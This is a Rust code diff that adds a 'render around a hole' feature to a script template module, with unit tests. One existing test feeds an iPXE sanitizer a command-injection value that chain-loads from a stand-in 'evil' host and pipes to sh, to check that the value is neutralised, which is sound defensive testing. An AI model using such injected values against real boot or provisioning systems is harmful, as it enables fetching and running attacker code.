@@ -60,15 +60,47 @@ impl Template {
     /// The template with each `{{name}}` replaced by its value in `vars`; an
     /// unknown name is left as written so a typo shows.
     pub(crate) fn render(&self, vars: &[(&str, &str)]) -> String {
+        self.render_around(vars, None).fill("")
+    }
+
+    /// As [`Template::render`], with each `{{open}}` left as a hole that
+    /// [`Rendered::fill`] fills later: the parts of a script that are the
+    /// same for a whole group rendered once, the machine's own line per request.
+    pub(crate) fn render_around(&self, vars: &[(&str, &str)], open: Option<&str>) -> Rendered {
+        let mut pieces = Vec::new();
         let mut out = String::with_capacity(self.text_len + vars.iter().map(|(_, v)| v.len()).sum::<usize>());
         for p in &self.parts {
             match p {
                 Part::Text(t) => out.push_str(t),
+                Part::Var(name, _) if Some(*name) == open => pieces.push(std::mem::take(&mut out)),
                 Part::Var(name, written) => match vars.iter().find(|(k, _)| k == name) {
                     Some((_, v)) => out.push_str(v),
                     None => out.push_str(written),
                 },
             }
+        }
+        pieces.push(out);
+        Rendered { pieces }
+    }
+}
+
+/// A rendered template with holes: its pieces, to be joined by one value.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Rendered {
+    pieces: Vec<String>,
+}
+
+impl Rendered {
+    /// The script, with `value` in each hole.
+    pub(crate) fn fill(&self, value: &str) -> String {
+        let holes = self.pieces.len().saturating_sub(1);
+        let len = self.pieces.iter().map(String::len).sum::<usize>() + holes * value.len();
+        let mut out = String::with_capacity(len);
+        for (i, p) in self.pieces.iter().enumerate() {
+            if i > 0 {
+                out.push_str(value);
+            }
+            out.push_str(p);
         }
         out
     }
@@ -95,6 +127,10 @@ mod tests {
         assert_eq!(t.render(&[("x", "1"), ("y", "2")]), "a 1 b 2 {{z}}1, {{ unclosed");
         assert_eq!(Template::parse("").render(&[]), "");
         assert_eq!(Template::parse("{{x}}").render(&[("x", "only")]), "only");
+        // Rendered around a hole: the same text once the hole is filled.
+        let around = t.render_around(&[("y", "2")], Some("x"));
+        assert_eq!(around.fill("1"), t.render(&[("x", "1"), ("y", "2")]));
+        assert_eq!(around.fill(""), "a  b 2 {{z}}, {{ unclosed");
         assert_eq!(ipxe_safe("a\nb${x}"), "ab_{x}");
         assert_eq!(ipxe_safe("x ; chain http://evil/ || sh"), "x _ chain http://evil/ __ sh");
         assert_eq!(ipxe_safe("é\u{7f}"), "_");
